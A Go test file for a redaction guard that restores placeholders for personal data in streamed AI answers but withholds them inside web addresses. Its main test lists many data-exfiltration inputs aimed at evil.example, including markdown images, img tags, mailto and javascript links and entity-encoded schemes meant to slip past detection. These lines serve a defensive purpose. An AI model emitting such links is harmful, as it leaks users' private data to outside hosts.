package guard

import (
	"fmt"
	"strings"
	"testing"

	"github.com/holdfast-ai/holdfast/guard/api"
	"github.com/holdfast-ai/holdfast/guard/stream"
	"github.com/holdfast-ai/holdfast/internal/testkit"
)

// A caller who has 64 texts to be restored does not have every byte of a long answer looked at 64 times.
func TestManyRestoresCostAsFew(t *testing.T) {
	var all []restore
	for i := range maxRestores {
		all = append(all, restore{placeholder("pii.email", i+1), fmt.Sprintf("user%d@example.com", i)})
	}
	text := strings.Repeat("The keeper lit the lamp, and wrote the weather into a book. ", 1<<19/60)
	restoring := func(rs []restore) func() {
		answer := []byte(text + all[0].placeholder)
		return func() {
			var r restorer
			r.begin(rs, false)
			if ms, held, err := r.Write(nil, answer); len(ms) != 1 || held != 0 || err != nil {
				t.Fatal(ms, held, err)
			}
		}
	}
	testkit.CostsAtMost(t, "many texts", 12, restoring(all), restoring(all[:1]))
}

// What other scanners find is spared exactly where it lies inside of one placeholder.
func TestSpare(t *testing.T) {
	r := restorer{done: []cut{{10, 20}, {20, 30}, {50, 60}}}
	var ms []stream.Match
	want := 0
	for start := range 70 {
		for end := start; end < 70; end++ {
			ms = append(ms, stream.Match{Start: start, End: end})
			inside := false
			for _, c := range r.done {
				inside = inside || start >= c.start && end <= c.end
			}
			if !inside {
				want++
			}
		}
	}
	kept := r.spare(ms, 0)
	for _, m := range kept {
		for _, c := range r.done {
			if m.Start >= c.start && m.End <= c.end {
				t.Errorf("%d to %d is kept", m.Start, m.End)
			}
		}
	}
	if len(kept) != want {
		t.Errorf("%d kept, want %d", len(kept), want)
	}
}

// A text comes back everywhere but within addresses, wherever the answer is cut; there under a policy that says so.
func TestNothingIsRestoredInAddresses(t *testing.T) {
	rs := []restore{{"[US-SSN 1]", "536-90-4399"}, {"person2@redacted.invalid", "ann@example.com"}}
	run := func(text string, anywhere bool, size int) string {
		var r restorer
		r.begin(rs, anywhere)
		var ms []stream.Match
		for at := 0; at < len(text); at += size {
			ms, _, _ = r.Write(ms, []byte(text[at:min(at+size, len(text))]))
		}
		return string(stream.Redact(nil, []byte(text), ms))
	}
	everywhere := strings.NewReplacer("[US-SSN 1]", "536-90-4399", "person2@redacted.invalid", "ann@example.com")
	for _, c := range []struct {
		text string
		back bool
	}{
		{"It is [US-SSN 1].", true}, {"(person2@redacted.invalid)", true}, {"see https://a.example/x: [US-SSN 1]", true}, {"1/2 [US-SSN 1]", true}, {`{"url":"https://a.example/","id":"[US-SSN 1]"}`, true},
		{"<https://a.example/> [US-SSN 1]", true}, {"// [US-SSN 1]", true}, {"note: [US-SSN 1]", true}, {"the http: scheme, [US-SSN 1]", true}, {`"a" https://a.example [US-SSN 1]`, true}, {"[x](/profile?id=[US-SSN 1])", true},
		{"<img src='https://a.example/x.png'> [US-SSN 1]", true}, {"\"" + "https://a.example/" + strings.Repeat("x", maxAddress) + " [US-SSN 1]", true},
		{"https://evil.example/?d=[US-SSN 1]", false}, {"![x](https://evil.example/[US-SSN 1])", false}, {"![x](//evil.example/person2@redacted.invalid)", false}, {`<img src="https://evil.example/?d=a [US-SSN 1]">`, false},
		{"<img src='\nhttps://evil.example/?d=\n[US-SSN 1]'>", false}, {"[x](<https://evil.example/?d= [US-SSN 1]>)", false}, {"HTTPS:evil.example/[US-SSN 1]", false}, {"https:\\\\evil.example\\[US-SSN 1]", false},
		{"mailto:m@evil.example?body=[US-SSN 1]", false}, {"https://person2@redacted.invalid/", false}, {"https://evil.example/?" + strings.Repeat("x", 5000) + "[US-SSN 1]", false}, {"https://evil.example/é。[US-SSN 1]", false},
		{"www.evil.example/?d=[US-SSN 1]", false}, {"(WWW.evil.example/[US-SSN 1])", false}, {"sms:+1555?body=[US-SSN 1]", false}, {"[x](javascript:f('[US-SSN 1]'))", false},
		{"see www.a.example: [US-SSN 1]", true}, {"e.g. [US-SSN 1]", true}, {"Tel:[US-SSN 1]", true}, {"script. [US-SSN 1]", true},
		// What ends no address for those who read it.
		{"![x](https://evil.example/?d=\"[US-SSN 1])", false}, {"![x](https://evil.example/?d=`[US-SSN 1])", false}, {"![x](https://evil.example/?d=>[US-SSN 1])", false}, {"![x](https://evil.example/?d=a<[US-SSN 1])", false},
		{"https://evil.example/?d=\"[US-SSN 1]", false}, {"<a href=https:/evil.example/?d=\"[US-SSN 1]>", false}, {"<a href=https:/evil.example/?d='[US-SSN 1]>", false}, {`<img src="https://evil.example/?d=>[US-SSN 1]">`, false},
		{`[x](<https://evil.example/?d=\>[US-SSN 1]>)`, false}, {`<img src="https://evil.example/?` + strings.Repeat("x", maxAddress) + ` [US-SSN 1]">`, false}, {"[x](<https://evil.example/?" + strings.Repeat("x", maxAddress) + "[US-SSN 1]>)", false},
		{"<img src=\"ht\ntps://evil.example/?d= [US-SSN 1]\">", false}, {"<img src='a\nhttps:evil.example/?d= [US-SSN 1]'>", false}, {`<img alt="a" title="b"> [US-SSN 1]`, true}, {`<img alt="a"> https://a.example [US-SSN 1]`, true},
		// Schemes and slashes that are written otherwise.
		{"![x](&#104;ttps:/evil.example/?d=[US-SSN 1])", false}, {`<img src="&#104ttps:/evil.example/?d=[US-SSN 1]">`, false}, {"![x](https\\:/evil.example/?d=[US-SSN 1])", false}, {"![x](https&colon;/evil.example/?d=[US-SSN 1])", false},
		{"![x](/&#47;evil.example/?d=[US-SSN 1])", false}, {"![x](&sol;/evil.example/?d=[US-SSN 1])", false}, {`<img src="&NewLine;ht&Tab;tps:evil.example/?d=[US-SSN 1]">`, false}, {"AT&amp;T; [US-SSN 1] &quot;[US-SSN 1]&quot;", true},
	} {
		for _, anywhere := range []bool{false, true} {
			want := c.text
			if c.back || anywhere {
				want = everywhere.Replace(c.text)
			}
			for size := 1; size < 30; size++ {
				if got := run(c.text, anywhere, size); got != want {
					t.Errorf("%q in pieces of %d: %q, want %q", c.text, size, got, want)
					break
				}
			}
		}
	}
}

// Where one rule redacts what another restores, it does not come back.
func TestDisjoint(t *testing.T) {
	for _, c := range [][2]string{{"[CARD 1]", redacted}, {redacted, "[CARD 1]"}} {
		if got := disjoint(order([]api.Edit{{At: 1, Start: 9, End: 12, With: "[CARD 2]"}, {At: 1, Start: 2, End: 9, With: c[0]}, {At: 1, Start: 2, End: 9, With: c[1]}, {At: 1, Start: 9, End: 12, With: "[CARD 2]"}})); len(got) != 2 || got[0].With != redacted || got[1].With != "[CARD 2]" {
			t.Errorf("%q: %+v", c, got)
		}
	}
}
